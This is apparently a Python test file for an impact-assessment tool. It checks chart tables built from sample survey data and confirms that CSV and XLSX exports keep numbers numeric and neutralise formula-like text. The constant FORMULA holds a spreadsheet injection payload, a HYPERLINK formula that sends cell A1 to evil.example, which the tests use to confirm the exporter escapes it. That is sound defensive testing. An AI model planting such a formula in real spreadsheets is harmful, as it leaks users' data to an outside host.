"""Each chart's values as a table (assessments/impact/chart_data.py), on the hand-checked data of test_impact.py,
and the tables written as CSV and XLSX without a formula and with numbers kept numbers."""
import csv
import io

import openpyxl
import pytest

from assessments.impact import report as impact
from assessments.impact.chart_data import LABEL_KEYS, Words, chart_table, chart_tables, likert_charts, likert_table
from tests.impact_samples import PEOPLE, sample_data
from training.exporting import csv_bytes, xlsx_bytes

LABELS = {**{key: key for key in LABEL_KEYS}, "participant_number": "P%(n)s", "count_of": "%(point)s (n)",
          "share_of": "%(point)s (%%)"}
WORDS = Words(LABELS, group_name=lambda attribute, value: f"{attribute}:{value}",
              item_text=lambda row: row["text"].get("es", row["item_key"]),
              question_text=lambda question: f"Q{question['question_id']}")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"pulse aquí")'


@pytest.fixture
def figures():
    pre, post = sample_data()
    return impact.report(PEOPLE, pre, post)


def test_the_funnel_table_is_the_participation_counts(figures):
    headers, rows = chart_table(figures, "funnel", WORDS)
    assert headers == ["stage", "participants", "share_of_first"]
    assert rows == [["participation_registered", 6, 100.0], ["participation_pre", 5, pytest.approx(500 / 6)],
                    ["participation_post", 5, pytest.approx(500 / 6)],
                    ["participation_both", 4, pytest.approx(400 / 6)]]


def test_the_slopes_table_has_each_pair_its_change_and_the_means(figures):
    headers, rows = chart_table(figures, "slopes", WORDS)
    assert headers == ["participant", "pre_score", "post_score", "change", "kind_of_change"]
    # Scores of the paired sample (test_impact): 0 → 3, 1 → 3, 2 → 2, 3 → 1.
    assert rows == [["P1", 0.0, 3.0, 3.0, "improved"], ["P2", 1.0, 3.0, 2.0, "improved"],
                    ["P3", 2.0, 2.0, 0.0, "unchanged"], ["P4", 3.0, 1.0, -2.0, "declined"],
                    ["mean", 1.5, 2.25, 0.75, ""]]
    assert rows[-1][1:4] == [figures["knowledge"]["mean_pre"], figures["knowledge"]["mean_post"],
                             figures["knowledge"]["mean_diff"]]
    _headers, points = chart_table(figures, "distributions", WORDS)
    assert points == [row[:3] for row in rows[:-1]]


def test_the_forest_table_has_each_country_and_everyone(figures):
    headers, rows = chart_table(figures, "forest", WORDS)
    assert headers == ["group", "n_pairs", "mean_diff", "ci_low", "ci_high"]
    countries = next(block for block in figures["subgroups"] if block["attribute"] == "country")["rows"]
    knowledge = figures["knowledge"]
    assert [row[0] for row in rows] == ["country:", "country:GT", "country:MX", "overall"]
    assert rows[2][1:] == [countries[2]["result"][key] for key in ("n_pairs", "mean_diff", "ci_low", "ci_high")]
    assert rows[2][:3] == ["country:MX", 2, 2.5]
    assert rows[-1][1:] == [knowledge[key] for key in ("n_pairs", "mean_diff", "ci_low", "ci_high")]


def test_the_items_table_has_the_shares_in_percent_and_the_holm_mark(figures):
    headers, rows = chart_table(figures, "items", WORDS)
    assert headers == ["item", "text", "facility_pre", "facility_post", "significant", "p_holm"]
    assert rows == [["K1", "<b>¿Quién?</b>", 50.0, 75.0, "no", 1.0], ["K2", "K2", 50.0, 75.0, "no", 1.0]]


def test_a_likert_table_has_counts_and_shares_per_point(figures):
    assert list(likert_charts(figures)) == ["likert-0", "likert-1"]
    headers, rows = chart_table(figures, "likert-0", WORDS)
    assert headers == ["question", "n", *(f"{point} (n)" for point in "12345"), *(f"{point} (%)" for point in "12345")]
    # Answers 5, 4, 2, 4 (test_impact's Likert question 4).
    assert rows == [["Q4", 4, 0, 1, 0, 2, 1, 0.0, 25.0, 0.0, 50.0, 25.0]]


def test_a_block_s_questions_on_other_scales_are_other_charts(figures):
    block = figures["likert"][0]
    ten = {**block["questions"][0], "question_id": 9, "type": "scale", "points": [str(n) for n in range(11)],
           "counts": [0] * 10 + [3], "n": 3}
    own_words = {**block["questions"][0], "question_id": 8, "scale_labels": {"es": ["Nada", "Mucho"]}}
    figures["likert"][0] = {**block, "questions": [block["questions"][0], ten, own_words]}
    assert {name: [q["question_id"] for q in questions] for name, questions in likert_charts(figures).items()} == {
        "likert-0": [4], "likert-0-1": [9], "likert-0-2": [8], "likert-1": [14]}
    headers, rows = chart_table(figures, "likert-0-1", WORDS)
    assert headers[2] == "0 (n)" and headers[12] == "10 (n)" and rows == [["Q9", 3, *[0] * 10, 3, *[0.0] * 10, 100.0]]
    # The caller may say which questions each chart draws (as its figures group them).
    words = Words(LABELS, question_text=lambda question: "Q", likert_groups=lambda report: {"likert-5": [ten]})
    assert chart_table(figures, "likert-5", words)[1][0][:2] == ["Q", 3]
    with pytest.raises(KeyError):
        chart_table(figures, "likert-0", words)


def test_questions_on_other_scales_share_one_table_each_on_its_own_points():
    agree = {"question_id": 1, "text": {}, "n": 2, "points": ["1", "2", "3"], "counts": [1, 0, 1]}
    ten = {"question_id": 2, "text": {}, "n": 1, "points": ["0", "1", "2"], "counts": [0, 0, 1]}
    headers, rows = likert_table([agree, ten], WORDS)
    assert headers[2:6] == ["1 (n)", "2 (n)", "3 (n)", "0 (n)"]
    assert rows == [["Q1", 2, 1, 0, 1, None, 50.0, 0.0, 50.0, None],
                    ["Q2", 1, 0, 1, None, 0, 0.0, 100.0, None, 0.0]]


def test_a_chart_the_report_lacks_is_a_key_error_and_a_missing_label_is_named(figures):
    with pytest.raises(KeyError):
        chart_table(figures, "likert-7", WORDS)
    with pytest.raises(KeyError):
        chart_table(figures, "pie", WORDS)
    assert list(chart_tables(figures, ["funnel", "pie", "likert-1"], WORDS)) == ["funnel", "likert-1"]
    with pytest.raises(KeyError, match="share_of"):
        Words({key: key for key in LABEL_KEYS - {"share_of"}})


def test_a_report_without_pairs_gives_empty_tables_not_errors():
    pre, _post = sample_data()
    figures = impact.report(PEOPLE, pre, impact.TakenTest((), {}))
    assert chart_table(figures, "slopes", WORDS)[1] == [] and chart_table(figures, "items", WORDS)[1] == []
    assert chart_table(figures, "forest", WORDS)[1][-1] == ["overall", 0, None, None, None]


def test_numbers_stay_numbers_and_formula_like_text_stays_text():
    headers, rows = ["text", "change"], [[FORMULA, -2.0], ["-1+1", 3], [None, None]]
    table = list(csv.reader(io.StringIO(csv_bytes(headers, rows, numbers=True).decode("utf-8-sig"))))
    assert table == [headers, ["'" + FORMULA, "-2.0"], ["'-1+1", "3"], ["", ""]]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(headers, rows, numbers=True))).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == (FORMULA, "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-2, "n") and sheet["B3"].value == 3
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("-1+1", "s")
    # Without `numbers` every cell stays text, as the other exports write them.
    assert list(csv.reader(io.StringIO(csv_bytes(headers, rows).decode("utf-8-sig"))))[1] == ["'" + FORMULA, "'-2.0"]
